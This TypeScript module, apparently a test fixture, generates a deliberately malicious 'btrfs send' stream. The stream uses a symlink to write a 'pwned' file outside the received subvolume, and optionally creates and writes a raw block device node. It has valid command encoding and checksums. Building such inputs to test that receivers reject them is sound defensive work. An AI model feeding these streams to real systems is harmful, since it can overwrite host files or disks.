/** Commands and attributes of a stream of `btrfs send`. https://btrfs.readthedocs.io/en/latest/dev/dev-send-stream.html */
const COMMAND = { subvolume: 1, file: 3, node: 5, symlink: 8, write: 15, end: 21 } as const
const ATTRIBUTE = {
  uuid: 1,
  transaction: 2,
  inode: 3,
  mode: 5,
  device: 8,
  path: 15,
  link: 17,
  offset: 18,
  data: 19,
} as const

/** What nobody's `btrfs send` would write. */
export interface Malice {
  /** A file is written through a link to this directory. */
  readonly outside?: string
  /** This block device is made and written. */
  readonly device?: { readonly major: number; readonly minor: number }
}

/** The stream of a subvolume that does harm. */
export function maliciousStream(uuid: string, { outside, device }: Malice): Buffer {
  const inode = attribute(ATTRIBUTE.inode, u64(257))
  const path = (name: string): Buffer => text(ATTRIBUTE.path, name)
  const write = (name: string): Buffer =>
    command(COMMAND.write, path(name), attribute(ATTRIBUTE.offset, u64(0)), text(ATTRIBUTE.data, 'pwned'))
  const escape =
    outside === undefined
      ? []
      : [
          command(COMMAND.symlink, path('out'), inode, text(ATTRIBUTE.link, outside)),
          command(COMMAND.file, path('out/pwned'), inode),
          write('out/pwned'),
        ]
  const node =
    device === undefined
      ? []
      : [
          command(
            COMMAND.node,
            path('disk'),
            inode,
            attribute(ATTRIBUTE.mode, u64(0o060_600)),
            attribute(ATTRIBUTE.device, u64(device.major * 256 + device.minor)),
          ),
          write('disk'),
        ]
  return Buffer.concat([
    Buffer.from('btrfs-stream\0'),
    u32(1),
    command(
      COMMAND.subvolume,
      path('v@1'),
      attribute(ATTRIBUTE.uuid, Buffer.from(uuid.replaceAll('-', ''), 'hex')),
      attribute(ATTRIBUTE.transaction, u64(1)),
    ),
    ...escape,
    ...node,
    command(COMMAND.end),
  ])
}

function command(kind: number, ...attributes: readonly Buffer[]): Buffer {
  const data = Buffer.concat(attributes)
  const head = Buffer.alloc(10)
  head.writeUInt32LE(data.length, 0)
  head.writeUInt16LE(kind, 4)
  const whole = Buffer.concat([head, data])
  whole.writeUInt32LE(crc32c(whole), 6)
  return whole
}

function attribute(kind: number, data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(kind, 0)
  head.writeUInt16LE(data.length, 2)
  return Buffer.concat([head, data])
}

function text(kind: number, value: string): Buffer {
  return attribute(kind, Buffer.from(value))
}

function u32(value: number): Buffer {
  const buffer = Buffer.alloc(4)
  buffer.writeUInt32LE(value)
  return buffer
}

function u64(value: number): Buffer {
  const buffer = Buffer.alloc(8)
  buffer.writeBigUInt64LE(BigInt(value))
  return buffer
}

/** As the kernel has it: begun with 0 and not inverted. */
function crc32c(data: Buffer): number {
  let crc = 0
  for (const byte of data) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ ((crc & 1) === 1 ? 0x82_f6_3b_78 : 0)
  }
  return crc >>> 0
}
